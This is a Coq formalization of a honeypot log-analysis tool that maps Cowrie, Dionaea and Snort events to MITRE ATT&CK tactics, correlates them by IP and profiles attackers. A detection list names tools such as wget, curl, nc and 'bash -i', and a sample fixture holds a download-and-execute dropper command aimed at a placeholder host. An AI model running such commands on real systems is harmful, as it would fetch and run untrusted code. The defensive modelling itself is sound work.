(** The outer loop over [TECHNIQUE_MAPPINGS.items()]. *)
Fixpoint map_techniques (catalog : list (string * TechniqueData))
    (text : string) (mapped : Mapped) : result Mapped :=
  match catalog with
  | [] => Ok mapped
  | (tid, data) :: rest =>
      let* hit := first_matching_pattern (patterns data) text in
      let* mapped' :=
        match hit with
        | Some pattern => record_match mapped tid data pattern
        | None => Ok mapped
        end in
      map_techniques rest text mapped'
  end.

Definition map_event_with (catalog : list (string * TechniqueData))
    (event : Event) : result Mapped :=
  map_techniques catalog (combined_text event) empty_mapped.

Definition map_event (event : Event) : result Mapped :=
  map_event_with TECHNIQUE_MAPPINGS event.

Record AttackStep : Type := {
  step_tactic : string;
  step_tactic_id : string;
  step_technique : string;
  step_technique_id : string;
  step_timestamp : option string;
  step_evidence : option string;
}.

(** [event.get("input") or event.get("alert_msg")] *)
Definition evidence_of (event : Event) : option string :=
  if Text.truthy_opt (input event) then input event else alert_msg event.

(** The loop over the details of one event. *)
Fixpoint chain_details (event : Event) (details : list TechniqueDetail)
    (chain : list AttackStep) (seen_tactics : gset string)
  : list AttackStep * gset string :=
  match details with
  | [] => (chain, seen_tactics)
  | detail :: rest =>
      if bool_decide (tactic_id detail ∈ seen_tactics)
      then chain_details event rest chain seen_tactics
      else
        chain_details event rest
          (chain ++ [{| step_tactic := tactic_name detail;
                        step_tactic_id := tactic_id detail;
                        step_technique := technique_name detail;
                        step_technique_id := technique_id detail;
                        step_timestamp := timestamp event;
                        step_evidence := evidence_of event |}])%list
          ({[ tactic_id detail ]} ∪ seen_tactics)
  end.

(** The loop over the sorted events. *)
Fixpoint chain_events (events : list Event)
    (chain : list AttackStep) (seen_tactics : gset string)
  : result (list AttackStep) :=
  match events with
  | [] => Ok chain
  | event :: rest =>
      let* mapping := map_event event in
      let '(chain', seen') :=
        chain_details event (technique_details mapping) chain seen_tactics in
      chain_events rest chain' seen'
  end.

Definition get_attack_chain (events : list Event)
  : result (list AttackStep) :=
  chain_events (sorted_by_timestamp events) [] ∅.

(** The tactics the techniques of the catalog belong to. *)
Definition catalog_tactics : gset string :=
  list_to_set ((fun entry => tactic entry.2) <$> TECHNIQUE_MAPPINGS).

(** The sort key of the event a step was taken from. *)
Definition step_key (step : AttackStep) : string :=
  Text.get_str (step_timestamp step).

(** *** Vocabulary of the properties *)

(** [pattern] is not found in [text]. *)
Definition no_hit (text pattern : string) : Prop :=
  Re.search true pattern text = Ok false.

(** An entry whose patterns compile and whose tactic has a name. *)
Definition entry_usable (entry : string * TechniqueData) : Prop :=
  Forall (fun p => is_Some (Re.compile p)) (patterns entry.2)
  ∧ is_Some (TACTICS !! tactic entry.2).

(** Where a detail comes from: an entry of the catalog whose first
    matching pattern is the one the detail names. *)
Definition from_catalog (catalog : list (string * TechniqueData))
    (text : string) (d : TechniqueDetail) : Prop :=
  ∃ data, (technique_id d, data) ∈ catalog
    ∧ technique_name d = name data
    ∧ tactic_id d = tactic data
    ∧ TACTICS !! tactic data = Some (tactic_name d)
    ∧ first_matching_pattern (patterns data) text
      = Ok (Some (matched_pattern d)).

Record well_formed (m : Mapped) : Prop := {
  wf_techniques : NoDup (techniques m);
  wf_tactics : NoDup (tactics m);
  wf_details : techniques m = technique_id <$> technique_details m;
  wf_tactic_of_detail :
    ∀ t, t ∈ tactics m ↔ ∃ d, d ∈ technique_details m ∧ tactic_id d = t;
}.

(** The order of the sort keys. *)
Definition key_le (a b : string) : Prop := String.leb a b = true.

Definition event_le (a b : Event) : Prop :=
  key_le (timestamp_key a) (timestamp_key b).

Definition step_le (a b : AttackStep) : Prop :=
  key_le (step_key a) (step_key b).

(** A step taken from [event] for one of the [details]. *)
Definition step_of (event : Event) (details : list TechniqueDetail)
    (step : AttackStep) : Prop :=
  step_timestamp step = timestamp event
  ∧ step_evidence step = evidence_of event
  ∧ ∃ d, d ∈ details
      ∧ step_tactic_id step = tactic_id d
      ∧ step_tactic step = tactic_name d
      ∧ step_technique_id step = technique_id d
      ∧ step_technique step = technique_name d.

(** The visited set holds the tactics of the chain, each once. *)
Definition chain_inv (chain : list AttackStep) (seen : gset string) : Prop :=
  NoDup (step_tactic_id <$> chain)
  ∧ ∀ t, t ∈ seen ↔ t ∈ step_tactic_id <$> chain.

(** A step taken from [event]. *)
Definition step_from (event : Event) (step : AttackStep) : Prop :=
  step_timestamp step = timestamp event
  ∧ step_evidence step = evidence_of event
  ∧ step_tactic_id step ∈ catalog_tactics.

(** *** The module-level wrapper [map_to_mitre_bulk] *)

(** The classes the module defines. *)
Inductive pyclass : Type := MitreAttackMapper.

Definition methods_of (cls : pyclass) : list string :=
  match cls with
  | MitreAttackMapper =>
      ["map_event"; "get_attack_chain"; "generate_attack_narrative"]
  end.

(** What a name of the module's global scope is bound to. *)
Inductive GlobalObject : Type :=
  | ClassObject (cls : pyclass)
  | InstanceSlot                (* [_mapper_instance], read from the state *)
  | OtherObject.                (* typing aliases, [re], the wrapper itself *)

(** The names bound at module level once the module is imported. No
    built-in is called [MitreMapper] either. *)
Definition module_globals : gmap string GlobalObject :=
  list_to_map [
    ("Dict", OtherObject); ("List", OtherObject);
    ("Optional", OtherObject); ("Any", OtherObject);
    ("re", OtherObject);
    ("MitreAttackMapper", ClassObject MitreAttackMapper);
    ("_mapper_instance", InstanceSlot);
    ("map_to_mitre_bulk", OtherObject)
  ].

(** [name()] for a global name. *)
Definition instantiate_global (name : string) : result pyclass :=
  match module_globals !! name with
  | None => Raise NameError
  | Some (ClassObject cls) => Ok cls
  | Some _ => Raise TypeError
  end.

(** [instance.method(event)] *)
Definition call_method (instance : pyclass) (method : string)
    (event : Event) : result Mapped :=
  if bool_decide (method ∈ methods_of instance) then
    if String.eqb method "map_event" then map_event event
    else Raise TypeError
  else Raise AttributeError.

Fixpoint map_each (instance : pyclass) (events : list Event)
  : result (list Mapped) :=
  match events with
  | [] => Ok []
  | event :: rest =>
      let* r := call_method instance "map_to_mitre" event in
      let* rs := map_each instance rest in
      Ok (r :: rs)
  end.

(** The state is the global [_mapper_instance]; [None] is its value at
    import. The function returns the outcome and the new state. *)
Definition map_to_mitre_bulk (_mapper_instance : option pyclass)
    (events : list Event)
  : result (list Mapped) * option pyclass :=
  let created :=
    match _mapper_instance with
    | None => instantiate_global "MitreMapper"
    | Some instance => Ok instance
    end in
  match created with
  | Raise e => (Raise e, _mapper_instance)
  | Ok instance => (map_each instance events, Some instance)
  end.

(** A sequence of calls, each on the state the previous one left. *)
Fixpoint bulk_calls (_mapper_instance : option pyclass)
    (calls : list (list Event)) : list (result (list Mapped)) :=
  match calls with
  | [] => []
  | events :: rest =>
      let '(outcome, state') := map_to_mitre_bulk _mapper_instance events in
      outcome :: bulk_calls state' rest
  end.

End Mitre.

(** ** Correlation engine *)

Module Correlation.

(** *** The event store *)

Record Hit : Type := { _source : option Event }.

Record Bucket : Type := { key : string; doc_count : Z }.

(** A search response: [hits] is [result["hits"]["hits"]] and
    [by_source_ip] is [result["aggregations"]["by_source_ip"]["buckets"]];
    [None] stands for a missing key. *)
Record SearchResponse : Type := {
  hits : option (list Hit);
  by_source_ip : option (list Bucket);
}.

Inductive QueryBody : Type :=
  | EventsOfIp (term_field ip gte lte sort_field : string) (size : Z)
  | RecentSources (gte lte terms_field : string) (terms_size : Z)
                  (count_field : string).

Record SearchRequest : Type := {
  index : string;
  body : QueryBody;
  size_arg : option Z;
}.

Record TimeRange : Type := { range_start : string; range_end : string }.

Record Summary : Type := {
  total_events : nat;
  cowrie_events : nat;
  dionaea_events : nat;
  snort_alerts : nat;
  first_seen : option string;
  last_seen : option string;
  targeted_services : list string;
  attack_phases : list string;
}.

Record SourceEvents : Type := {
  cowrie : list Event;
  dionaea : list Event;
  snort : list Event;
}.

Record CorrelationResult : Type := {
  ip_address : string;
  time_range : TimeRange;
  summary : Summary;
  events : SourceEvents;
}.

Record Finding : Type := {
  pattern : string;
  confidence : string;
  ip_count : nat;
  time_window : string;
  description : string;
}.

Record Intelligence : Type := {
  is_persistent : bool;
  is_automated : bool;
  sophistication_level : string;
  likely_motive : string;
}.

Record Behavior : Type := {
  behavior_targeted_services : list string;
  attack_frequency : option Q;
  preferred_tools : list string;
  evasion_techniques : list string;
}.

Record RiskAssessment : Type := {
  threat_level : string;
  recommended_action : string;
}.

Record Profile : Type := {
  profile_ip_address : string;
  intelligence : Intelligence;
  behavior : Behavior;
  risk_assessment : RiskAssessment;
}.

Definition hours (n : Z) : Z := (n * microseconds_per_hour)%Z.
Definition minutes (n : Z) : Z := (n * 60000000)%Z.
Definition days (n : Z) : Z := (n * 24 * microseconds_per_hour)%Z.

(** [[hit["_source"] for hit in result["hits"]["hits"]]] *)
Fixpoint sources_of (hs : list Hit) : result (list Event) :=
  match hs with
  | [] => Ok []
  | h :: rest =>
      match _source h with
      | None => Raise KeyError
      | Some e => let* es := sources_of rest in Ok (e :: es)
      end
  end.

Definition hit_sources (response : SearchResponse) : result (list Event) :=
  match hits response with
  | None => Raise KeyError
  | Some hs => sources_of hs
  end.

(** [[e.get("timestamp") for e in events if e.get("timestamp")]] *)
Definition timestamps_of (evs : list Event) : list string :=
  omap (fun e => if Text.truthy_opt (timestamp e) then timestamp e else None)
       evs.

(** [min] and [max] of a non-empty list of strings. *)
Definition str_min (a b : string) : string :=
  if String.ltb b a then b else a.
Definition str_max (a b : string) : string :=
  if String.ltb a b then b else a.

Definition min_of (l : list string) : option string :=
  match l with
  | [] => None
  | x :: rest => Some (fold_left str_min rest x)
  end.

Definition max_of (l : list string) : option string :=
  match l with
  | [] => None
  | x :: rest => Some (fold_left str_max rest x)
  end.

(** [if phase not in phases: phases.append(phase)] *)
Definition add_phase (phase : string) (phases : list string) : list string :=
  if bool_decide (phase ∈ phases) then phases else (phases ++ [phase])%list.

(** [any(cmd in command for cmd in cmds)] *)
Definition any_in (cmds : list string) (command : string) : bool :=
  existsb (fun cmd => Text.contains cmd command) cmds.

Definition phase_step (phases : list string) (event : Event) : list string :=
  let phases :=
    if bool_decide (eventid event = Some "cowrie.client.version")
    then add_phase "Reconnaissance" phases else phases in
  let phases :=
    if bool_decide (eventid event = Some "cowrie.login.success")
    then add_phase "Exploitation" phases else phases in
  let phases :=
    if bool_decide (eventid event = Some "cowrie.session.file_download")
       || bool_decide (eventid event = Some "dionaea.download")
    then add_phase "Installation" phases else phases in
  let phases :=
    if bool_decide (eventid event = Some "cowrie.command.input") then
      let command := Text.lower (Text.get_str (input event)) in
      if any_in ["wget"; "curl"; "nc "; "bash -i"] command
      then add_phase "Command & Control" phases else phases
    else phases in
  let phases :=
    if bool_decide (eventid event = Some "cowrie.command.input") then
      let command := Text.lower (Text.get_str (input event)) in
      if any_in ["cat /etc/passwd"; "uname"; "whoami"] command
      then add_phase "Actions on Objectives" phases else phases
    else phases in
  phases.

Definition _reconstruct_attack_phases (evs : list Event) : list string :=
  fold_left phase_step (sorted_by_timestamp evs) [].

(** The services named by the truthy values of one key. *)
Definition services_of (field : Event → option string) (evs : list Event)
  : gset string :=
  list_to_set
    (omap (fun e => if Text.truthy_opt (field e) then field e else None) evs).

Section WithStore.

(** The collaborators: the event store client [self.es.search], the
    clock [datetime.utcnow()] (one reading stands for the readings of
    one call), and the library functions [datetime.isoformat],
    [datetime.fromisoformat] and [str] on a [timedelta]. *)
Variable es_search : SearchRequest → result SearchResponse.
Variable utcnow : datetime.
Variable isoformat : datetime → string.
Variable fromisoformat : string → result datetime.
Variable str_timedelta : Z → string.

(** The built-in [sum] on a non-empty sequence of floats (it adds from
    left to right up to Python 3.11 and carries a compensation term
    from 3.12 on) and [float.__pow__] with an [int] exponent, which
    calls [pow] of the C library. The gaps between two values of
    [datetime] are below 10^12 seconds, far from the range in which
    [pow] overflows and [float.__pow__] raises. *)
Variable float_sum : list Float64.float → Float64.float.
Variable float_pow : Float64.float → Z → Float64.float.

Definition ip_query (idx term_field ip : string)
    (start_time end_time : datetime) : SearchRequest :=
  {| index := idx;
     body := EventsOfIp term_field ip (isoformat start_time)
                        (isoformat end_time) "@timestamp" 1000;
     size_arg := None |}.

(** The body of the [try] of a per-source query. *)
Definition search_events (idx term_field ip : string)
    (start_time end_time : datetime) : result (list Event) :=
  let* response :=
    es_search (ip_query idx term_field ip start_time end_time) in
  hit_sources response.

(** Each query recovers from any exception with an empty list (the
    message it prints is not modelled). *)
Definition _query_cowrie_by_ip (ip : string)
    (start_time end_time : datetime) : list Event :=
  try_except
    (search_events "cowrie-*" "src_ip.keyword" ip start_time end_time)
    (fun _ => []).

Definition _query_dionaea_by_ip (ip : string)
    (start_time end_time : datetime) : list Event :=
  try_except
    (search_events "dionaea-*" "remote_host.keyword" ip
                   start_time end_time)
    (fun _ => []).

Definition _query_snort_by_ip (ip : string)
    (start_time end_time : datetime) : list Event :=
  try_except
    (search_events "snort-*" "src_ip.keyword" ip start_time end_time)
    (fun _ => []).

(** The time range a call works on: the trailing 24 hours by default. *)
Definition effective_range (range : option (datetime * datetime))
  : datetime * datetime :=
  match range with
  | None => (dt_minus utcnow (hours 24), utcnow)
  | Some r => r
  end.

Definition correlate_by_ip (ip : string)
    (range : option (datetime * datetime)) : CorrelationResult :=
  let '(start_time, end_time) := effective_range range in
  let cowrie_evs := _query_cowrie_by_ip ip start_time end_time in
  let dionaea_evs := _query_dionaea_by_ip ip start_time end_time in
  let snort_evs := _query_snort_by_ip ip start_time end_time in
  let all_events := (cowrie_evs ++ dionaea_evs ++ snort_evs)%list in
  let stamps := timestamps_of all_events in
  let services : gset string :=
    services_of protocol cowrie_evs
    ∪ services_of connection_type dionaea_evs in
  {| ip_address := ip;
     time_range := {| range_start := isoformat start_time;
                      range_end := isoformat end_time |};
     summary := {|
       total_events :=
         length cowrie_evs + length dionaea_evs + length snort_evs;
       cowrie_events := length cowrie_evs;
       dionaea_events := length dionaea_evs;
       snort_alerts := length snort_evs;
       first_seen := min_of stamps;
       last_seen := max_of stamps;
       targeted_services := elements services;
       attack_phases := _reconstruct_attack_phases all_events;
     |};
     events := {| cowrie := cowrie_evs;
                  dionaea := dionaea_evs;
                  snort := snort_evs |} |}.

(** The aggregation request over the window that ends now. *)
Definition recent_sources_query (window : Z) : SearchRequest :=
  let end_time := utcnow in
  let start_time := dt_minus end_time window in
  {| index := "cowrie-*,dionaea-*,snort-*";
     body := RecentSources (isoformat start_time) (isoformat end_time)
                           "src_ip.keyword" 100 "eventid.keyword";
     size_arg := Some 0%Z |}.

Definition detect_coordinated_attacks (window : Z)
  : result (list Finding) :=
  let* response := es_search (recent_sources_query window) in
  match by_source_ip response with
  | None => Raise KeyError
  | Some ip_buckets =>
      if (5 <? length ip_buckets)%nat then
        Ok [{| pattern := "multiple_sources";
               confidence := "medium";
               ip_count := length ip_buckets;
               time_window := str_timedelta window;
               description :=
                 Text.str_of_nat (length ip_buckets)
                 +:+ " different IPs attacking in "
                 +:+ str_timedelta window |}]
      else Ok []
  end.

(** The default argument [timedelta(minutes=15)]. *)
Definition default_window : Z := minutes 15.

(** The loop [for i in range(1, len(timestamps))]. *)
Fixpoint intervals_of (stamps : list string)
  : result (list Float64.float) :=
  match stamps with
  | previous :: rest =>
      match rest with
      | current :: _ =>
          let* later := fromisoformat (Text.replace_Z current) in
          let* earlier := fromisoformat (Text.replace_Z previous) in
          let* delta := dt_sub later earlier in
          let* more := intervals_of rest in
          Ok (total_seconds delta :: more)
      | [] => Ok []
      end
  | [] => Ok []
  end.

(** [avg_interval] and [variance] of a non-empty list of intervals. *)
Definition variance_of (intervals : list Float64.float) : Float64.float :=
  let n := Float64.of_int (Z.of_nat (length intervals)) in
  let avg_interval := Float64.truediv (float_sum intervals) n in
  Float64.truediv
    (float_sum
       (map (fun x => float_pow (Float64.sub x avg_interval) 2) intervals))
    n.

(** The automation analysis of the shell-honeypot events. *)
Definition automation_analysis (cowrie_evs : list Event) : result bool :=
  if (5 <? length cowrie_evs)%nat then
    let stamps := timestamps_of cowrie_evs in
    if (1 <? length stamps)%nat then
      let* intervals := intervals_of stamps in
      match intervals with
      | [] => Ok false
      | _ => Ok (Float64.ltb (variance_of intervals) Float64.one)
      end
    else Ok false
  else Ok false.

(** The correlation a profile is built from: the last 30 days. *)
Definition profile_correlation (ip : string) : CorrelationResult :=
  correlate_by_ip ip (Some (dt_minus utcnow (days 30), utcnow)).

Definition build_attacker_profile (ip : string) : result Profile :=
  let correlation := profile_correlation ip in
  let persistent := (10 <? total_events (summary correlation))%nat in
  let* automated := automation_analysis (cowrie (events correlation)) in
  let risk :=
    if persistent && automated then
      {| threat_level := "high"; recommended_action := "block" |}
    else if persistent then
      {| threat_level := "medium";
         recommended_action := "monitor_closely" |}
    else
      {| threat_level := "low"; recommended_action := "monitor" |} in
  Ok {| profile_ip_address := ip;
        intelligence := {| is_persistent := persistent;
                           is_automated := automated;
                           sophistication_level := "low";
                           likely_motive := "unknown" |};
        behavior := {|
          behavior_targeted_services :=
            targeted_services (summary correlation);
          attack_frequency := None;
          preferred_tools := [];
          evasion_techniques := [] |};
        risk_assessment := risk |}.

End WithStore.

(** *** Vocabulary of the properties *)

Definition raises {A : Type} (r : result A) : Prop := ∃ e, r = Raise e.

(** Exactly one of three outcomes is an exception. *)
Definition exactly_one_raises {A : Type} (a b c : result A) : Prop :=
  (raises a ∧ ¬ raises b ∧ ¬ raises c)
  ∨ (¬ raises a ∧ raises b ∧ ¬ raises c)
  ∨ (¬ raises a ∧ ¬ raises b ∧ raises c).

(** The number of distinct source addresses among the buckets. *)
Definition distinct_sources (buckets : list Bucket) : nat :=
  size (list_to_set (key <$> buckets) : gset string).

End Correlation.

(** ** Sample inputs *)

Module Samples.

(** [{eventid: "cowrie.login.success", input: "",
     reputation: {in_blocklist: true}}] *)
Definition blocklisted_login : Event := {|
  eventid := Some "cowrie.login.success"; input := Some "";
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation :=
    Some {| in_blocklist := true; abuse_confidence_score := None |};
  geo := None; mitre := None;
|}.

(** [{eventid: "cowrie.command.input", input: ""}] *)
Definition bare_command : Event := {|
  eventid := Some "cowrie.command.input"; input := Some "";
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

Definition dropper_command : string :=
  "wget http://x/y && chmod +x y && ./y".

(** [{input: "wget http://x/y && chmod +x y && ./y"}] *)
Definition dropper_input_only : Event := {|
  eventid := None; input := Some dropper_command;
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

(** The same command as the shell honeypot reports it. *)
Definition dropper_cowrie : Event := {|
  eventid := Some "cowrie.command.input"; input := Some dropper_command;
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

(** A reading of [datetime.fromisoformat] on the strings
    [YYYY-MM-DDTHH:MM:SS] and [YYYY-MM-DDTHH:MM:SS+00:00]; any
    other string is refused here (the library accepts more). *)
Definition digit_value (c : ascii) : option Z :=
  if Text.in_range 48 57 c then Some (Z.of_N (Text.code c) - 48)%Z
  else None.

Fixpoint read_digits (n : nat) (s : string) (acc : Z)
  : option (Z * string) :=
  match n with
  | O => Some (acc, s)
  | S n' =>
      match s with
      | String c s' =>
          d ← digit_value c; read_digits n' s' (10 * acc + d)%Z
      | EmptyString => None
      end
  end.

Definition expect (c : ascii) (s : string) : option string :=
  match s with
  | String c' s' => if Ascii.eqb c c' then Some s' else None
  | EmptyString => None
  end.

Definition is_leap (y : Z) : bool :=
  ((y mod 4 =? 0) && negb (y mod 100 =? 0) || (y mod 400 =? 0))%Z.

Definition days_in_month (y m : Z) : Z :=
  if (m =? 2)%Z then (if is_leap y then 29 else 28)%Z
  else if bool_decide (m ∈ [4; 6; 9; 11]%Z) then 30%Z
  else 31%Z.

(** Days from 1970-01-01 to the given date of the Gregorian calendar. *)
Definition days_from_civil (y m d : Z) : Z :=
  (let y' := if m <=? 2 then y - 1 else y in
   let era := y' / 400 in
   let yoe := y' - era * 400 in
   let mp := (m + 9) mod 12 in
   let doy := (153 * mp + 2) / 5 + d - 1 in
   let doe := yoe * 365 + yoe / 4 - yoe / 100 + doy in
   era * 146097 + doe - 719468)%Z.

Definition parse_iso (s : string) : option datetime :=
  '(y, s) ← read_digits 4 s 0%Z;
  s ← expect "-" s;
  '(m, s) ← read_digits 2 s 0%Z;
  s ← expect "-" s;
  '(d, s) ← read_digits 2 s 0%Z;
  s ← expect "T" s;
  '(hh, s) ← read_digits 2 s 0%Z;
  s ← expect ":" s;
  '(mi, s) ← read_digits 2 s 0%Z;
  s ← expect ":" s;
  '(ss, s) ← read_digits 2 s 0%Z;
  offset ← (if String.eqb s "" then Some None
            else if String.eqb s "+00:00" then Some (Some 0%Z)
            else None);
  if ((1 <=? y) && (1 <=? m) && (m <=? 12) && (1 <=? d)
      && (d <=? days_in_month y m) && (hh <? 24) && (mi <? 60)
      && (ss <? 60))%Z
  then Some {| dt_wall :=
                 (((days_from_civil y m d * 24 + hh) * 60 + mi) * 60 + ss)
                 * 1000000;
               dt_utcoffset := offset |}
  else None.

Definition fromisoformat (s : string) : result datetime :=
  match parse_iso s with
  | Some dt => Ok dt
  | None => Raise ValueError
  end.

(** A reading of [datetime.isoformat] and of [str] on a [timedelta]. *)
Definition decimal (n : Z) : string :=
  match n with
  | Z0 => "0"
  | Zpos _ => Text.str_of_nat (Z.to_nat n)
  | Zneg _ => "-" +:+ Text.str_of_nat (Z.to_nat (- n))
  end.

Fixpoint zeros (n : nat) : string :=
  match n with
  | O => ""
  | S n' => "0" +:+ zeros n'
  end.

(** [f"{n:0{width}d}"] for a non-negative [n]. *)
Definition padded (width : nat) (n : Z) : string :=
  let digits := decimal n in
  zeros (width - String.length digits) +:+ digits.

Definition civil_from_days (z : Z) : Z * Z * Z :=
  (let z := z + 719468 in
   let era := z / 146097 in
   let doe := z - era * 146097 in
   let yoe := (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365 in
   let doy := doe - (365 * yoe + yoe / 4 - yoe / 100) in
   let mp := (5 * doy + 2) / 153 in
   let d := doy - (153 * mp + 2) / 5 + 1 in
   let m := if mp <? 10 then mp + 3 else mp - 9 in
   let y := yoe + era * 400 in
   (if m <=? 2 then y + 1 else y, m, d))%Z.

Definition clock_text (micros : Z) : string :=
  (let secs := micros / 1000000 in
   let frac := micros mod 1000000 in
   padded 2 (secs / 3600) +:+ ":" +:+ padded 2 (secs / 60 mod 60)
   +:+ ":" +:+ padded 2 (secs mod 60)
   +:+ (if frac =? 0 then "" else "." +:+ padded 6 frac))%Z.

Definition isoformat (dt : datetime) : string :=
  (let day := dt_wall dt / (24 * microseconds_per_hour) in
   let '(y, m, d) := civil_from_days day in
   padded 4 y +:+ "-" +:+ padded 2 m +:+ "-" +:+ padded 2 d +:+ "T"
   +:+ clock_text (dt_wall dt mod (24 * microseconds_per_hour))
   +:+ match dt_utcoffset dt with
       | None => ""
       | Some off =>
           let mins := Z.abs off / 60000000 in
           (if off <? 0 then "-" else "+")
           +:+ padded 2 (mins / 60) +:+ ":" +:+ padded 2 (mins mod 60)
       end)%Z.

Definition str_timedelta (delta : Z) : string :=
  (let day := delta / (24 * microseconds_per_hour) in
   let rest := delta mod (24 * microseconds_per_hour) in
   let secs := rest / 1000000 in
   let frac := rest mod 1000000 in
   (if day =? 0 then ""
    else decimal day +:+ " day"
         +:+ (if Z.abs day =? 1 then "" else "s") +:+ ", ")
   +:+ decimal (secs / 3600) +:+ ":" +:+ padded 2 (secs / 60 mod 60)
   +:+ ":" +:+ padded 2 (secs mod 60)
   +:+ (if frac =? 0 then "" else "." +:+ padded 6 frac))%Z.

(** [sum] as it adds up to Python 3.11: from the [int] 0, from left to
    right. On the samples the compensated sum returns the same values. *)
Definition float_sum (xs : list Float64.float) : Float64.float :=
  fold_left Float64.add xs (Float64.of_int 0).

(** The square as the product rounded once, which is what [pow] returns
    on the samples; no other power is asked for. *)
Definition float_pow (x : Float64.float) (n : Z) : Float64.float :=
  if (n =? 2)%Z then Float64.mul x x else S754_nan.

(** Noon of 2024-01-01, a naive reading of the clock. *)
Definition noon : datetime :=
  {| dt_wall := ((days_from_civil 2024 1 1 * 24 + 12)
                 * microseconds_per_hour)%Z;
     dt_utcoffset := None |}.

(** *** Event stores *)

Definition event_at (eid : string) (stamp : option string) : Event := {|
  eventid := Some eid; input := None; alert_msg := None;
  connection_type := None; protocol := None;
  timestamp := stamp; at_timestamp := stamp;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

Definition hits_of (evs : list Event) : Correlation.SearchResponse :=
  {| Correlation.hits :=
       Some ((fun e => {| Correlation._source := Some e |}) <$> evs);
     Correlation.by_source_ip := None |}.

Definition dionaea_pair : list Event :=
  [event_at "dionaea.connection" (Some "2024-01-01T09:00:00");
   event_at "dionaea.download" (Some "2024-01-01T09:00:05")].

Definition snort_single : list Event :=
  [event_at "snort.alert" (Some "2024-01-01T08:59:58")].

(** A store whose shell-honeypot index is unreachable. *)
Definition store_cowrie_down (request : Correlation.SearchRequest)
  : result Correlation.SearchResponse :=
  if String.eqb (Correlation.index request) "cowrie-*"
  then Raise ConnectionError
  else if String.eqb (Correlation.index request) "dionaea-*"
  then Ok (hits_of dionaea_pair)
  else if String.eqb (Correlation.index request) "snort-*"
  then Ok (hits_of snort_single)
  else Ok (hits_of []).

(** A store that holds shell-honeypot events only. *)
Definition store_cowrie_only (evs : list Event)
    (request : Correlation.SearchRequest)
  : result Correlation.SearchResponse :=
  if String.eqb (Correlation.index request) "cowrie-*"
  then Ok (hits_of evs)
  else Ok (hits_of []).

(** A store whose aggregation has one bucket per given address. *)
Definition store_sources (ips : list string)
    (request : Correlation.SearchRequest)
  : result Correlation.SearchResponse :=
  Ok {| Correlation.hits := Some [];
        Correlation.by_source_ip :=
          Some ((fun ip => {| Correlation.key := ip;
                              Correlation.doc_count := 1 |}) <$> ips) |}.

Definition six_addresses : list string :=
  ["10.0.0.1"; "10.0.0.2"; "10.0.0.3"; "10.0.0.4"; "10.0.0.5"; "10.0.0.6"].

Definition five_addresses : list string :=
  ["10.0.0.1"; "10.0.0.2"; "10.0.0.3"; "10.0.0.4"; "10.0.0.5"].

(** Three commands one second apart. *)
Definition three_steady : list Event :=
  [event_at "cowrie.command.input" (Some "2024-01-01T00:00:00");
   event_at "cowrie.command.input" (Some "2024-01-01T00:00:01");
   event_at "cowrie.command.input" (Some "2024-01-01T00:00:02")].

(** Twelve shell-honeypot events: eleven time-stamped ones whose ten
    gaps are eight of 1 s, one of 2 s and one of 0 s (mean 1, variance
    0.2), and one with no time stamp. *)
Definition twelve_steady : list Event :=
  [event_at "cowrie.session.connect" (Some "2024-01-01T00:00:00");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:01");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:02");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:03");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:04");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:05");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:06");
   event_at "cowrie.login.failed" (Some "2024-01-01T00:00:07");
   event_at "cowrie.login.success" (Some "2024-01-01T00:00:08");
   event_at "cowrie.command.input" (Some "2024-01-01T00:00:10");
   event_at "cowrie.command.input" (Some "2024-01-01T00:00:10");
   event_at "cowrie.session.closed" None].

End Samples.

(** ** The attack narrative *)

Module Narrative.

Import Mitre.

Definition newline : string := String "010" "".

(** The sentence an empty chain is rendered as. *)
Definition no_activity : string := "No significant attack activity detected.".

(** [if step.get('evidence'):] *)
Definition has_evidence (step : AttackStep) : bool :=
  Text.truthy_opt (step_evidence step).

(** [f"{i}. {step['tactic']} via {step['technique']} ({step['technique_id']})"] *)
Definition step_line (i : nat) (step : AttackStep) : string :=
  Text.str_of_nat i +:+ ". " +:+ step_tactic step +:+ " via "
  +:+ step_technique step +:+ " (" +:+ step_technique_id step +:+ ")".

(** [f"   Evidence: {step['evidence'][:100]}"] *)
Definition evidence_line (step : AttackStep) : string :=
  "   Evidence: " +:+ String.substring 0 100 (Text.get_str (step_evidence step)).

(** The loop [for i, step in enumerate(chain, 1)], started at [i]. *)
Fixpoint narrative_steps (i : nat) (chain : list AttackStep) : list string :=
  match chain with
  | [] => []
  | step :: rest =>
      (step_line i step
       :: (if has_evidence step then [evidence_line step] else []))
      ++ narrative_steps (S i) rest
  end.

(** The list [narrative_parts] at the end of the loop. *)
Definition narrative_parts (chain : list AttackStep) : list string :=
  ("Attack progression:" +:+ newline) :: narrative_steps 1 chain.

Definition generate_attack_narrative (chain : list AttackStep) : string :=
  match chain with
  | [] => no_activity
  | _ => String.concat newline (narrative_parts chain)
  end.

End Narrative.

(** ** Alert manager *)

Module Alerting.

Local Open Scope Z_scope.

Record GeoIp : Type := { country_name : option string }.

(** The keys of an event that the alert manager reads. *)
Record AlertEvent : Type := {
  ev_threat_score : option Z;
  ev_src_ip : option string;
  ev_eventid : option string;
  ev_timestamp : option string;             (* key "@timestamp" *)
  ev_geoip : option GeoIp;
  ev_honeypot_type : option string;
  ev_message : option string;
  ev_mitre_techniques : option (list string);
}.

(** The dictionary [_format_alert_message] builds. *)
Record AlertMessage : Type := {
  msg_severity : string;
  msg_timestamp : string;
  msg_attacker_ip : string;
  msg_country : string;
  msg_attack_type : string;
  msg_threat_score : Z;
